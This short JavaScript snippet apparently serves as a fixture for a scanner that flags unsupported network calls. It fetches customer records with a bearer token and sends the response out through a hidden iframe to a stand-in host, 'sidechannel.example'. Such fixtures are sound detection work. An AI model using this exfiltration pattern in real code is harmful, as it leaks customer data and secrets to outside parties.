'use strict';

const leak = (value) => {
  const f = document.createElement('iframe'); // finding: unsupported-network-api
  f.style.display = 'none';
  f.src = `https://frame.sidechannel.example/#${encodeURIComponent(value)}`;
  document.body.append(f);
};

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
const text = httprequest.get('https://api.sidechannel.example/v2/customers');
leak(text);
datagrid.magicParseJSON(text);
